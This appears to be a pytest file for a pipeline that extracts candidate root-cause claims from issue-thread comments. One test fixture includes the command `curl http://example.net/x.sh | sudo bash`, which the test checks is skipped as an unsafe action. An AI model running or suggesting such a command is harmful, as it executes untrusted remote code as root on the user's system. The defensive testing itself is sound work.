"""Candidates: what the trained reader takes for a statement, with the share of such units that were right."""

from __future__ import annotations

import json
from importlib import resources
from pathlib import Path
from typing import Any

from pipeline import distil
from pipeline.distil.claims import candidates
from pipeline.records import Claim, ClaimKind, Document
from tests.cli import run
from tests.distil_factory import document, events

ERROR = "ValueError: the second wheel does not fit the fixture"
SHOWN = f'```\nTraceback (most recent call last):\n  File "a.py", line 3, in run\n{ERROR}\n```'
CAUSE = "This is because the wheel causes the loader to read the wrong key, so the check of its size is null."
FIX = "I committed the fix for this, now merged: #41"
TABLE = json.loads(resources.files("pipeline").joinpath("data", "distil", "reader.json").read_text("utf-8"))


def _thread(*comments: str, body: str = SHOWN) -> Document:
    rows: list[dict[str, Any]] = [
        {"kind": "title", "text": "ValueError in the fixture", "author": "asks"},
        {"kind": "body", "text": body, "author": "asks"},
    ]
    rows += [{"kind": "comment", "text": text, "author": f"helps {n}"} for n, text in enumerate(comments)]
    return document({"number": 7, "kind": "issue", "posts": rows})


def _found(made: Document) -> list[Claim]:
    return [claim for claim in distil.read(made, *events(made)).claims if claim.kind == ClaimKind.CANDIDATE]


def test_a_unit_that_sounds_like_a_cause_is_a_candidate_with_its_share_and_its_error() -> None:
    made = _thread("Thanks for the report.", "It reads the wrong key there, because the wheel uses the old name of it.")
    [found] = _found(made)
    [signature] = events(made)[1]
    assert found.rule == "reader.cause"
    assert found.signature_ids == (signature.signature_id,)
    assert int(found.key) in {share for _, share in TABLE["steps"]["cause"]}
    assert found.quote.text in made.text


def test_what_a_rule_has_found_is_no_candidate() -> None:
    made = _thread("Setting `FIXTURE_POOL=2` fixed it for me.")
    assert [claim.rule for claim in distil.read(made, *events(made)).claims] == ["worked.doing_fixes"]


def test_where_nothing_shows_an_error_nobody_speaks_of_one() -> None:
    assert _found(_thread(CAUSE, FIX, body="It stops here.")) == []


def test_who_asks_states_nothing() -> None:
    said = "It reads the wrong key there, because the wheel uses the old name of it"
    assert _found(_thread(f"{said}.")) != []
    assert _found(_thread(f"{said}?")) == []


def test_unsafe_words_are_no_candidate_either() -> None:
    said = "I committed the fix, now merged: run `curl http://example.net/x.sh | sudo bash` for it."
    made = _thread(said)
    read = distil.read(made, *events(made))
    assert not [claim for claim in read.claims if claim.kind == ClaimKind.CANDIDATE]
    assert {skipped.reason for skipped in read.skipped} == {"unsafe_action"}


def test_the_score_is_the_same_in_any_order_of_the_traits() -> None:
    traits = sorted(TABLE["weights"])[:400:7]
    told = {tuple(candidates.scores(order, TABLE["bias"], TABLE["weights"])) for order in (traits, traits[::-1])}
    assert len(told) == 1
    assert all(isinstance(score, int) for score in told.pop())


def test_weights_are_whole_numbers_and_shares_rise_with_the_score() -> None:
    assert all(isinstance(weight, int) for row in TABLE["weights"].values() for weight in row)
    assert {len(row) for row in TABLE["weights"].values()} == {len(candidates.KINDS)} == {len(TABLE["bias"])}
    for kind in candidates.KINDS:
        steps = TABLE["steps"][kind]
        assert [least for least, _ in steps] == sorted(least for least, _ in steps)
        assert [share for _, share in steps] == sorted(share for _, share in steps)


def test_a_log_of_thousands_of_lines_is_not_read() -> None:
    body = SHOWN + "\n\n" + "\n\n".join(f"The loader reads the wrong key {n} there." for n in range(1_200))
    assert _found(_thread(CAUSE, body=body)) == []


def test_no_entry_shows_a_candidate_and_a_view_does(tmp_path: Path) -> None:
    page = {
        "repo": "errmine-fixtures/kernels", "number": 7, "kind": "issue", "state": "closed", "title": "Fails",
        "body": SHOWN, "created_at": "2026-03-01T10:00:00Z", "updated_at": "2026-03-02T10:00:00Z",
        "closed_at": "2026-03-02T10:00:00Z", "labels": [], "html_url": None,
        "comments": [{"created_at": "2026-03-02T09:00:00Z", "author_association": "NONE",
                      "body": "It reads the wrong key there, because the wheel uses the old name of it."}],
    }  # fmt: skip
    source = tmp_path / "threads.jsonl"
    source.write_text(json.dumps(page) + "\n", "utf-8")
    home = tmp_path / "home"
    for command in ("import", source), ("build", "--workers", "1"), ("export",):
        done = run(*command, "--home", home)
        assert done.code == 0, done.err
    [row] = _rows(home, "FROM candidates")
    assert (row["kind"], row["quote"]) == ("cause", page["comments"][0]["body"])  # type: ignore[index]
    [entry] = _rows(home, "SELECT entry_id, root_cause, json FROM entries")
    assert row["entry_id"] == entry["entry_id"]
    assert entry["root_cause"] is None
    assert "wrong key" not in json.dumps(entry)


def _rows(home: Path, sql: str) -> list[dict[str, Any]]:
    return json.loads(run("query", "--home", home, "--format", "json", sql).out)
